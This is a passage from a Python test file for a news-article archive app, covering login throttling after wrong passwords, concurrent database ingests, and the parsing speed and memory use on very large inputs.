    clock.now += t.window + t.cap  # a quiet window later, it is all forgotten: never locked out for ever
    assert t.wait("a") == 0
    t.failed("a")
    t.succeeded("a")
    assert t.wait("a") == 0


def test_password_guessing_from_many_clients_is_limited_overall():
    from dashboard.editing import PasswordThrottle

    tried()
    clock = _Clock()
    t = PasswordThrottle(clock=clock)
    for i in range(t.overall_free):  # one guess each from many addresses
        assert t.wait(f"client-{i}") == 0
        t.failed(f"client-{i}")
    assert t.wait("someone-new") > 0  # over the overall limit: everyone waits, for a while
    clock.now += t.window + t.cap
    assert t.wait("someone-new") == 0


def test_the_dashboard_stops_checking_after_repeated_wrong_passwords(dashboard_edit_env, caplog):
    pytest.importorskip("streamlit")
    import logging

    from apptest_support import APP
    from conftest import DASHBOARD_EDIT_PASSWORD
    from streamlit.testing.v1 import AppTest

    from dashboard import editing

    editing.THROTTLE.reset()
    try:
        at = AppTest.from_file(APP, default_timeout=90).run()
        with caplog.at_level(logging.WARNING, logger="dashboard.editing"):
            for i in range(editing.THROTTLE.free + 3):
                tried()
                at.text_input(key="unlock_pw").input(f"guess {i}")
                at.button(key="unlock_submit").click().run()
                errors = [e.value for e in at.error]
                if any("Too many wrong passwords" in e for e in errors):
                    break
            assert any("Too many wrong passwords" in e for e in errors), errors
            assert i + 1 == editing.THROTTLE.free  # the fifth wrong password starts the back-off
            # while it waits, even the right password is not checked
            at.text_input(key="unlock_pw").input(DASHBOARD_EDIT_PASSWORD)
            at.button(key="unlock_submit").click().run()
            assert "_edit_token" not in at.session_state
            assert any("Too many wrong passwords" in e.value for e in at.error)
        assert any("wrong edit password" in r.getMessage() for r in caplog.records)
    finally:
        editing.THROTTLE.reset()


# --------------------------------------------------------------------------- 4. concurrent ingests

def _normalised(doc: dict) -> str:
    """A store's document with each article named by its text, caravan and row ids dropped:
    which of two same-named files, or of two copies of one text, was stored first depends
    on the order the batches came in, not the caravans; so does the catalogue position of
    caravans whose order ties (broken by id); lists sorted."""
    import hashlib
    import json

    path_of = {a["id"]: hashlib.sha256(a["text"].encode()).hexdigest()[:16] for a in doc["articles"]}

    def walk(v, key=None):
        if isinstance(v, dict):
            return {k: walk(x, k) for k, x in v.items()
                    if not (k == "id" and ("observations" in v or isinstance(x, int))) and k not in ("path", "position")}
        if isinstance(v, list):
            items = [walk(x, key) for x in v]
            return sorted(items, key=lambda x: json.dumps(x, sort_keys=True, default=str))
        if key in ("article", "articles", "id") and isinstance(v, str) and v in path_of:
            return path_of[v]
        if key == "fact" and isinstance(v, str) and v.count(":") >= 2:
            aid, start, where = v.rsplit(":", 2)
            return f"{path_of.get(aid, aid)}:{start}:{where}"
        return v
    return json.dumps(walk(doc), sort_keys=True, default=str)


def _batches(tmp_path, n: int) -> list[Path]:
    """n folders that clash: the same file name with other content, the same content under
    another name, and files of their own."""
    from hostile_support import ROOT
    seeds = sorted((ROOT / "seeds").glob("*.txt"))
    out = []
    for i in range(n):
        d = tmp_path / f"batch{i}"
        d.mkdir()
        (d / "same-name.txt").write_bytes(seeds[i % 3].read_bytes())  # one name, other texts
        (d / f"copy-{i}.txt").write_bytes(seeds[0].read_bytes())  # one text, other names
        (d / f"own-{i}.txt").write_text(f"About {1000 + 100 * i} migrants left Tapachula on Oct. {10 + i}, 2021, "
                                        f"heading for Mexico City, organizers said.\n")
        out.append(d)
    return out


@pytest.mark.parametrize("n", [2, 4])
def test_concurrent_ingests_all_succeed_as_if_one_after_the_other(backend, tmp_path, n):
    import subprocess
    import sys

    from hostile_support import ROOT, TALLY
    from archive.ingest import ingest
    from archive.store import Store

    tried(n)
    batches = _batches(tmp_path, n)
    seq = backend.store("sequential")
    for b in batches:
        ingest([b], seq)
    url = backend.url("concurrent")
    procs = [subprocess.Popen([sys.executable, "-m", "caravan_atlas", "ingest", str(b), "--store", url,
                               "--workers", "0"], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
             for b in batches]
    outs = [p.communicate(timeout=300) for p in procs]
    for p, (out, err) in zip(procs, outs):
        assert p.returncode == 0 and b"Traceback" not in err, err.decode()[-2000:]
    conc = Store(url)  # the same store (backend.store() would make a new one)
    if conc.counts() != seq.counts():
        TALLY["lost"] += 1
    try:
        assert conc.counts() == seq.counts()
        assert _normalised(conc.document()) == _normalised(seq.document())
    finally:
        conc.engine.dispose()  # before the test database is dropped


# 10 MB articles of hostile shapes, each extracted in a process of its own: time and memory.
@pytest.mark.parametrize("shape", ["numbers", "alike-lines", "wrapped", "prose", "one-word", "places", "dates"])
def test_a_10mb_article_of_a_hostile_shape_is_read_in_time_and_memory(tmp_path, shape):
    import subprocess
    import sys

    from hostile_support import ROOT, TALLY
    from journeys.articles import MAX_BYTES

    tried()
    try:
        p = subprocess.run([sys.executable, str(ROOT / "tests" / "hostile_shapes.py"), shape, str(MAX_BYTES),
                            str(tmp_path)], capture_output=True, text=True, timeout=600, cwd=ROOT)
    except subprocess.TimeoutExpired:
        TALLY["hangs"] += 1
        raise
    assert p.returncode == 0, p.stderr[-2000:]
    seconds, peak_mb, _ = p.stdout.split()
    assert float(seconds) < 60, f"{shape}: {seconds} s"
    assert float(peak_mb) < 1024, f"{shape}: {peak_mb} MB"
